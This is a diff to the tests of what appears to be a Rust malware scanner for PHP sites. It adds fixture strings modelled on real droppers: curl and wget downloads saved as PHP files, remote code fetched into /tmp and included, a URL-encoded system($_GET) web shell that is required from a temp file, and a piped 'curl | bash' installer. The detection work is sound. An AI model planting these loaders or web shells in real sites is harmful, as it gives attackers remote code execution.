@@ -524,6 +524,13 @@ fn droppers_are_found() {
     // A port checked with bash's `/dev/tcp` starts no shell for anyone.
     let probe = "<?php exec('timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/3306\" && echo open', $out);";
     assert!(found(probe).is_empty(), "{:?}", found(probe));
+    // fresh114's one-liner: a script downloaded by curl into a PHP file of the site.
+    let saved = "<?php if ($_GET['install'] == 'x') { shell_exec('curl -o up.php https://raw.githubusercontent.com/a/b/main/up.php'); }";
+    assert_eq!(found(saved), [Why::CodeFromInternet]);
+    let after = "<?php exec('wget https://example.org/x.txt -O x.php');";
+    assert_eq!(found(after), [Why::CodeFromInternet]);
+    // (A download saved as data: quiet.)
+    assert!(found("<?php exec('curl -o rates.json https://api.example.org/rates');").is_empty());
     // fresh111's gsocket installers: a download run as the text of a shell's command.
     let substituted = "<?php system('bash -c \"$(curl -fsSL https://minisocket.io/bin/x)\"')";
     assert_eq!(found(substituted), [Why::DownloadsProgram]);
@@ -1526,6 +1533,18 @@ fn code_fetched_and_included_from_a_temporary_file_is_found() {
     let named = "<?php $data = file_get_contents('https://api.example/repos/x/contents/k.php'); $f = tempnam(sys_get_temp_dir(), 'c_');\n\
                  file_put_contents($f, base64_decode($data)); include($f); unlink($f);";
     assert!(found(named).contains(&Why::CodeFromInternet), "{:?}", found(named));
+    // fresh114's `tmp.php`: a code host's file (no scheme) kept in `/tmp/sess_….php`.
+    let sess = "<?php $URL = 'raw.githubusercontent.com/a/b/main/alfa.php'; $TMP = '/tmp/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';\n\
+                function M() { $g = @file_get_contents($GLOBALS['URL']); $h = fopen($GLOBALS['TMP'], 'w'); fwrite($h, $g); }\n\
+                if (file_exists($TMP)) { include($TMP); } else { M(); }";
+    assert!(found(sess).contains(&Why::CodeFromInternet), "{:?}", found(sess));
+    // fresh114's `cepot.php`: a whole shell kept URL-encoded, written to a `tempnam` file by a
+    // function and required.
+    let kept = format!(
+        "<?php $i = rawurldecode(\"{}\");\nfunction x($i) {{ $t = tempnam('/tmp', '0'); $h = fopen($t, 'w+'); fwrite($h, $i); fclose($h); require $t; unlink($t); }}\nx($i);",
+        "%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20".repeat(8)
+    );
+    assert!(found(&kept).contains(&Why::EvalOfDecoded), "{:?}", found(&kept));
     // A template compiled into a temporary file from the site's own text is not fetched.
     let compiled =
         "<?php $f = tempnam(sys_get_temp_dir(), 'tpl'); file_put_contents($f, compile($source)); include $f;";
